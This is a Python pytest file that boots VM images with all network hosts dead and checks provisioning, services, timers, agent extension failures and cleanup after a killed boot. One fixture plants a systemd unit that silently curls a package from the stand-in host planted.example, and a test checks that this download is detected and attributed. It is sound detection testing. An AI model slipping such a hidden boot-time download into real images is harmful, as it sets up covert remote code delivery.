"""First boots for real: the image's own init, its DHCP client, cloud-init and agent."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from imagebake.kernel.errors import ImagebakeError
from imagebake.lab.boot.attribution import pids_in
from imagebake.lab.boot.runner import run_scenario
from imagebake.lab.boot.scenario import FirstBoot, Moment, Scenario, StartMethod
from imagebake.lab.fabric.extension_store import ExtensionStore
from imagebake.lab.fabric.fabric_settings import FabricExtension, GatewayMode, GoalState, StoreMode
from imagebake.lab.ledger import RequestKind
from tests.lab.boot.conftest import NOW, a_machine
from tests.support.boot_root import AGENT

pytestmark = [pytest.mark.root, pytest.mark.archive]

HELLO = FabricExtension(publisher="Contoso.Demo", type="Hello", version="1.2.3")
SILENT = StoreMode.BLACK_HOLE
PLANTED = """[Unit]
After=network-online.target
Wants=network-online.target
[Service]
Type=oneshot
ExecStart=/usr/bin/curl --silent --max-time 2 http://planted.example/agent.deb
"""
UNITS = "etc/systemd/system"
NETPLAN = (
    "f /run/systemd/network/90-netplan.network - - - -"
    r" [Match]\nPermanentMACAddress=02:00:00:00:00:99"
    "\n"
)
CARD = """[Unit]
After=systemd-networkd.service
[Service]
Type=oneshot
RemainAfterExit=yes
ExecStart=/bin/grep ^MACAddress=02:00:00:00:00:99$ /run/systemd/network/90-netplan.network
[Install]
WantedBy=multi-user.target
"""


def lead(image: Path, *above: Path, **scenario: object) -> FirstBoot:
    return run_scenario(
        Scenario(name="test", **scenario),  # type: ignore[arg-type]
        (*above, image),
        machine=a_machine(),
        store=ExtensionStore(),
        now=NOW,
    )


@pytest.fixture(scope="module")
def quiet(image: Path, tmp_path_factory: pytest.TempPathFactory) -> FirstBoot:
    """A machine that downloads nothing while it is led through everything, all hosts dead."""
    above = tmp_path_factory.mktemp("timed")
    units = above / UNITS
    (units / "timers.target.wants").mkdir(parents=True)
    (units / "late.timer").write_text("[Timer]\nOnBootSec=1h\n")
    (units / "late.service").write_text("[Service]\nType=oneshot\nExecStart=touch /var/late\n")
    (units / "timers.target.wants/late.timer").symlink_to("../late.timer")
    (above / "etc/tmpfiles.d").mkdir()
    (above / "etc/tmpfiles.d/netplan.conf").write_text(NETPLAN)
    (units / "card.service").write_text(CARD)
    (units / "multi-user.target.wants").mkdir()
    (units / "multi-user.target.wants/card.service").symlink_to("../card.service")
    return lead(
        image,
        above,
        store=SILENT,
        restart=True,
        reboot=True,
        timers=True,
        services=(
            "ssh.service",
            "walinuxagent.service",
            "nobody.service",
            "late.service",
            "card.service",
        ),
    )


def test_an_image_provisions_while_every_host_is_dead(quiet: FirstBoot) -> None:
    assert quiet.ready, (quiet.stages, quiet.journal, quiet.console)
    assert (quiet.provisioned, quiet.cloud, quiet.system) == ("Ready", "azure", "running")
    assert quiet.agent is not None
    assert quiet.agent.version == AGENT
    assert quiet.failed == ()


def test_it_is_ready_at_every_moment(quiet: FirstBoot) -> None:
    assert [stage.moment for stage in quiet.stages] == [
        Moment.START,
        Moment.RESTART,
        Moment.REBOOT,
    ]
    assert all(stage.ready for stage in quiet.stages)
    assert quiet.seconds is not None
    assert quiet.provisioned_seconds is not None
    assert quiet.provisioned_seconds <= quiet.seconds


def test_its_ledger_is_clean_and_its_platform_was_used(quiet: FirstBoot) -> None:
    assert quiet.ledger.clean, quiet.ledger
    assert quiet.ledger.counters["dhcp"] >= 4
    assert quiet.ledger.counters["fabric"] > 0
    assert quiet.ledger.counters["imds"] > 0


def test_its_services_are_seen_after_the_reboot(quiet: FirstBoot) -> None:
    ssh, agent, nobody, late, _ = quiet.services
    assert (ssh.enabled, ssh.active) == (True, True)
    assert (agent.enabled, agent.active) == (True, True)
    assert (nobody.active, nobody.state) == (False, "not-found")
    assert late.active is False


def test_a_card_that_netplan_names_by_its_permanent_address_is_found(quiet: FirstBoot) -> None:
    """No virtual card has one; Ubuntu's machines would wait for theirs in vain."""
    assert quiet.services[-1].active


def test_what_its_timers_start_some_day_is_started(quiet: FirstBoot) -> None:
    assert "late.service" in quiet.timers


def test_a_planted_download_is_told_with_its_unit_and_process(image: Path, tmp_path: Path) -> None:
    wants = tmp_path / UNITS / "multi-user.target.wants"
    wants.mkdir(parents=True)
    (tmp_path / UNITS / "planted.service").write_text(PLANTED)
    (wants / "planted.service").symlink_to("../planted.service")

    seen = lead(image, tmp_path)

    asked = [entry for entry in seen.ledger.entries if entry.unit == "planted.service"]
    assert {entry.kind for entry in asked} == {RequestKind.DNS, RequestKind.HTTP}, seen.ledger
    assert {entry.host for entry in asked} == {"planted.example"}
    assert all("curl" in entry.process for entry in asked)
    assert "/agent.deb" in {entry.path for entry in asked}
    assert "planted.service" in seen.failed
    assert not seen.ledger.clean
    assert seen.provisioned == "Ready"


@pytest.fixture(scope="module")
def refused(image: Path) -> FirstBoot:
    """The agent alone, given an extension whose store refuses."""
    goals = (GoalState(), GoalState(extensions=(HELLO,)))
    return lead(
        image,
        means=StartMethod.AGENT,
        goals=goals,
        store=StoreMode.PUBLIC_ACCESS_DENIED,
        gateway=GatewayMode.SAME,
    )


def test_a_refused_extension_is_not_ready_and_every_request_is_told(refused: FirstBoot) -> None:
    assert [stage.ready for stage in refused.stages] == [True, False]
    assert (refused.ready, refused.seconds) == (False, None)
    requests = [entry for entry in refused.ledger.entries if entry.kind is RequestKind.HTTP]
    assert {entry.answer for entry in requests} == {"409"}
    assert {entry.host for entry in requests} == {
        "packages-1.store.test",
        "packages-2.store.test",
        "168.63.129.16",
    }
    assert all("waagent" in entry.process for entry in requests)


def test_the_agent_alone_is_ready_in_silence(image: Path) -> None:
    seen = lead(image, means=StartMethod.AGENT, store=SILENT, restart=True)

    assert seen.ready, seen.log
    assert seen.ledger.clean, seen.ledger
    assert seen.provisioned == ""


def test_an_image_that_cannot_boot_says_what_it_printed(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()

    with pytest.raises(ImagebakeError, match=r"the image does not boot: .*OS tree"):
        lead(tmp_path)


def test_an_image_without_an_agent_cannot_run_it(tmp_path: Path) -> None:
    with pytest.raises(ImagebakeError, match="so it has no agent"):
        lead(tmp_path, means=StartMethod.AGENT)


def test_a_boot_that_is_killed_leaves_nothing(image: Path) -> None:
    command = [sys.executable, "-m", "tests.support.killed_boot", str(image)]

    ended = subprocess.run(command, capture_output=True, check=False, timeout=60)

    assert ended.returncode == -signal.SIGKILL, ended.stderr.decode()
    namespace, name = ended.stdout.decode().split()
    end = time.monotonic() + 20
    while (left := remains(int(namespace), name)) and time.monotonic() < end:
        os.sched_yield()
    assert not left


def remains(namespace: int, name: str) -> list[object]:
    """What there is on the machine of one first boot."""
    groups = Path("/sys/fs/cgroup").glob(f"*/{name}")
    mounts = Path("/proc/self/mountinfo").read_text().splitlines()
    traces = Path("/run/systemd/nspawn").rglob(f"*{name}*")
    mine = (line for line in mounts if "/run/imagebake" in line or name in line)
    return [*pids_in(namespace), *groups, *mine, *traces]
